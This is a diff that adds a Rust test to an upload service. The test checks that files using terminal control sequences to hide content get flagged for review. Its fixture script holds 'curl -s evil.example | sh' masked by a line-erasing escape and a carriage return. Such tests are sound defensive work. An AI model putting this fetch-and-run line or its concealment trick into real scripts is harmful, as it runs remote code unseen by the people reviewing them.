@@ -879,3 +879,43 @@ async fn a_refused_upload_gets_its_answer() {
     }
     app.stop().await;
 }
+
+/// A file that rewrites what a terminal shows (an escape that erases the line, a carriage return
+/// that writes over it) is pointed out to reviewers, with where it is.
+#[tokio::test]
+async fn terminal_tricks_are_flagged_for_review() {
+    each_engine(|app| async move {
+        app.project("p1", &[("ana", "analyst")]).await;
+        let ana = app.token("ana", "analyst");
+        let script = b"echo start\ncurl -s evil.example | sh # \x1b[2K\recho all is well\n";
+        let tar = tar_of(&[
+            ("analysis.R", F, 0o644, b"library(data.table)\r\n"),
+            ("run.sh", F, 0o755, script),
+        ]);
+        let (st, receipt) = upload(&app, &ana, "p1", "tricks", zst(&tar)).await;
+        assert_eq!(st, StatusCode::CREATED, "{receipt}");
+        assert_eq!(receipt["checks_outcome"], "review", "{receipt}");
+        let check = receipt["checks"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|c| c["check"] == "terminal_controls")
+            .unwrap_or_else(|| panic!("no terminal_controls check: {receipt}"));
+        assert_eq!(check["outcome"], "review");
+        let reasons: Vec<&str> = check["reasons"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|r| r.as_str().unwrap())
+            .collect();
+        assert_eq!(reasons.len(), 1, "{reasons:?}");
+        assert!(
+            reasons[0].starts_with(
+                "run.sh has a terminal control sequence (ESC [, CSI) at line 2, column 29"
+            ),
+            "{reasons:?}"
+        );
+        app
+    })
+    .await;
+}
